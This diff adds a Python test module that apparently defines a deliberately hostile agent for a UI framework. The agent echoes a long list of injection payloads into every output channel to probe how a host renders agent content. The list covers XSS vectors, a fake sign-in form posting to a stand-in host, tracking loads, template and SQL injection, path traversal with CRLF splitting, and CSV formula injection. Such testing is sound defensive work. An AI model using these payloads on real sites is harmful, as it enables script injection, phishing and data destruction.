@@ -1,0 +1,178 @@
+"""What an agent might say to get out of its box, and an agent that says it wherever an agent has a say."""
+
+from __future__ import annotations
+
+from collections.abc import Sequence
+
+from agentkit import Artifact, Completed, Failed, InputRequired, Outcome, SkillHandler, TaskContext
+from agentkit.parts import raw_part
+
+AWAY = "http://elsewhere.invalid"  # whatever is loaded from there is noticed
+RUN = "alert(document.domain)"
+MOST_FIELDS = 30  # of a form
+NOTHING = "␀"  # the agent says a null byte in its place
+
+HANDLERS = ("onerror", "onload", "onfocus autofocus", "onmouseover", "ontoggle open", "onbegin", "onanimationstart")
+ELEMENTS = ("img src=x", "svg", "input", "details", "video src=x", "audio src=x", "body", "marquee", "iframe")
+ADDRESSES = (
+    f"javascript:{RUN}",
+    f"JaVaScRiPt:{RUN}",
+    f"java\tscript:{RUN}",
+    f"java&#10;script:{RUN}",
+    f"&#106;avascript&colon;{RUN}",
+    f"\x01javascript:{RUN}",
+    f"vbscript:{RUN}",
+    f"data:text/html,<script>{RUN}</script>",
+    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+    f"blob:{AWAY}/1",
+    "file:///etc/passwd",
+    "//elsewhere.invalid/seen",
+)
+MARKDOWN = (
+    "[press]({})",
+    "<{}>",
+    "![seen]({})",
+    "[press][there]\n\n[there]: {}",
+    '[press](<{}> "a title")',
+)
+
+MARKUP = (
+    f"<script>{RUN}</script>",
+    f"<script src={AWAY}/run.js></script>",
+    f"<script type=module>import '{AWAY}/run.js'</script>",
+    f"</script><script>{RUN}</script>",
+    f"</textarea><script>{RUN}</script>",
+    f"</title><script>{RUN}</script>",
+    f"</style><script>{RUN}</script>",
+    f'"><script>{RUN}</script>',
+    f"'><img src=x onerror={RUN}>",
+    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
+    f"<!--><img src=x onerror={RUN}>-->",
+    f"<![CDATA[<script>{RUN}</script>]]>",
+    f"]]><script>{RUN}</script>",
+    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
+    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style>",
+    f"<svg><style><img src=x onerror={RUN}></style></svg>",
+    f"<svg><a xlink:href='javascript:{RUN}'><text y=20>press</text></a></svg>",
+    f"<svg><animate attributeName=href values='javascript:{RUN}'/></svg>",
+    f"<svg><foreignObject><iframe srcdoc='<script>{RUN}</script>'></iframe></foreignObject></svg>",
+    f"<svg><use href='{AWAY}/icons.svg#x'></use></svg>",
+    f"<svg><image href='{AWAY}/seen.png'/></svg>",
+    f"<template><script>{RUN}</script></template>",
+    f"<iframe srcdoc='<script>{RUN}</script>'></iframe>",
+    f"<iframe src='javascript:{RUN}'></iframe>",
+    f"<iframe src={AWAY}></iframe>",
+    f"<object data={AWAY}/it.swf></object>",
+    f"<embed src={AWAY}/it.swf>",
+    f"<img src={AWAY}/seen.png>",
+    f"<img srcset='{AWAY}/seen.png 2x'>",
+    f"<picture><source srcset={AWAY}/seen.png><img></picture>",
+    f"<video poster={AWAY}/seen.png></video>",
+    f"<audio src={AWAY}/seen.mp3 autoplay></audio>",
+    f"<link rel=stylesheet href={AWAY}/look.css>",
+    f"<link rel=prefetch href={AWAY}/seen>",
+    f"<link rel=dns-prefetch href={AWAY}>",
+    f"<style>@import '{AWAY}/look.css';</style>",
+    f"<style>body{{background:url({AWAY}/seen.png)}}</style>",
+    f"<p style='background:url({AWAY}/seen.png)'>styled</p>",
+    "<p style='position:fixed;inset:0;background:red'>over all</p>",
+    f"<meta http-equiv=refresh content='0;url={AWAY}'>",
+    f"<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\"><script>{RUN}</script>",
+    f"<base href={AWAY}/>",
+    f"<form action={AWAY}><input name=password><button>Sign in</button></form>",
+    "<form action=/sign-out method=post><button>Go on</button></form>",
+    "<form id=composer><input name=text></form>",
+    "<a id=beginning></a><a id=items name=items></a>",
+    "<img name=getElementById><img name=cookie>",
+    f"<div hx-get={AWAY} hx-trigger=load></div>",
+    "<div hx-get=/sign-out hx-trigger=load hx-target=body></div>",
+    f"<div hx-on:load='{RUN}' hx-on::load='{RUN}'></div>",
+    f"<div hx-vals='js:{{x: {RUN}}}' hx-get=/ hx-trigger=load></div>",
+    f"<div data-hx-get={AWAY} data-hx-trigger=load></div>",
+    "<button data-act=delete data-switch=echo popovertarget=account>press</button>",
+    "<button command=show-modal commandfor=account>press</button>",
+    f"<dialog open><h1>You are signed out</h1><a href={AWAY}>Sign in again</a></dialog>",
+    f"<input autofocus onfocus={RUN}>",
+    f"<x onclick={RUN} tabindex=1 id=x>press</x>",
+    f"<a href={AWAY} ping={AWAY}/ping download>press</a>",
+    f"<portal src={AWAY}></portal>",
+    f"<custom-element onconnected={RUN}></custom-element>",
+    f"<xss style='animation-name:x' onanimationend={RUN}></xss>",
+    f"<svg onload={RUN}//",
+    f'<img src=x onerror="&#97;lert(1)">{RUN}',
+    f"<IMG SRC=`javascript:{RUN}`>",
+    f"<img/src/onerror={RUN}>",
+    f"<{NOTHING}script>{RUN}</script>",
+    f"＜script＞{RUN}＜/script＞",
+    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
+    f"%3Cscript%3E{RUN}%3C/script%3E",
+    f"&lt;script&gt;{RUN}&lt;/script&gt;",
+    f"&amp;lt;img src=x onerror={RUN}&amp;gt;",
+    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
+    f"```html\n<script>{RUN}</script>\n```",
+    f'```"><img src=x onerror={RUN}>\ncode\n```',
+    f"```<script>{RUN}</script>\ncode",
+    f"`<img src=x onerror={RUN}>`",
+    f"    <script>{RUN}</script>",
+    f"| <img src=x onerror={RUN}> | b |\n|---|---|\n| [x](javascript:{RUN}) | <b> |",
+    f"> <script>{RUN}</script>\n> - <iframe src={AWAY}>",
+    f"# <img src=x onerror={RUN}>",
+    f'[a](http://a.example "onmouseover={RUN}")',
+    f"[a](http://a.example' onmouseover='{RUN})",
+    f"[<img src=x onerror={RUN}>](http://a.example)",
+    f"[^1]\n\n[^1]: <img src=x onerror={RUN}>",
+    "{{ 7|add:7 }}{% csrf_token %}{% load static %}",
+    "{{constructor.constructor('alert(1)')()}}${alert(1)}#{alert(1)}<%= alert(1) %>",
+    "\u202e\u2066evil\u2069.exe \u200b\u200d\ufeff",
+    "H̸̡̪̯ͨ͊̽̅̾" * 20,
+    "A" * 5_000,
+    f"__proto__ constructor toString <script>{RUN}</script>",
+    "'; DROP TABLE conversations_event; --",
+    "../../../../etc/passwd\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>",
+)
+
+PRESSED = (form.format(address) for address in ADDRESSES for form in MARKDOWN)
+CAUGHT = (
+    f"<{element} {handler}={RUN}>" for element, handler in zip(ELEMENTS * 2, HANDLERS * 3, strict=False)
+)  # fmt: skip
+PAYLOADS = tuple(dict.fromkeys([*MARKUP, *CAUGHT, *PRESSED]))
+
+
+class Hostile(SkillHandler):
+    """Says the message back wherever it has a say; "fail …" fails with it, "ask 30" asks with those from there on."""
+
+    name = "Hostile"
+
+    async def on_request(self, task: TaskContext) -> Outcome:
+        how, _, said = task.message.text.replace(NOTHING, "\0").partition(" ")
+        if how == "ask":
+            asked = PAYLOADS[int(said) : int(said) + MOST_FIELDS]
+            return InputRequired("\n\n".join(asked), slot="words", schema=form(asked))
+        await task.progress(said, done=1, total=2)
+        call = await task.tool_call(said[:100], {said[:100]: said})
+        await task.tool_result(call, said[:100], said)
+        await task.thought(said)
+        await task.token(said)
+        return Failed(said) if how == "fail" else Completed(said, files(said))
+
+
+def form(asked: Sequence[str]) -> dict[str, object]:
+    """A form whose every word is hostile."""
+    fields: dict[str, object] = {}
+    for number, said in enumerate(asked):
+        field = {"type": "string", "title": said, "description": said, "default": said}
+        fields[f"{number} {said}"[:100]] = {**field, **({"enum": [said, "other"]} if number % 2 else {})}
+    return {"type": "object", "title": asked[0], "properties": fields, "required": list(fields)[:1]}
+
+
+def files(said: str) -> list[Artifact]:
+    """What is shown in the panel, of every kind that has a preview of its own."""
+    name = said[:100] or "x"
+    drawing = f'<svg xmlns="http://www.w3.org/2000/svg">{said}<script>{RUN}</script></svg>'
+    return [
+        Artifact.text(name, said, media_type="text/markdown", description=said[:500]),
+        Artifact([raw_part(said.encode(), f"{name}.html", "text/html")], name),
+        Artifact([raw_part(drawing.encode(), f"{name}.svg", "image/svg+xml")], name),
+        Artifact([raw_part(f'a,b\n"{said}",=1+1\n'.encode(), f"{name}.csv", "text/csv")], name),
+        Artifact.json(name, {said: [said, {"__proto__": said}]}),
+    ]
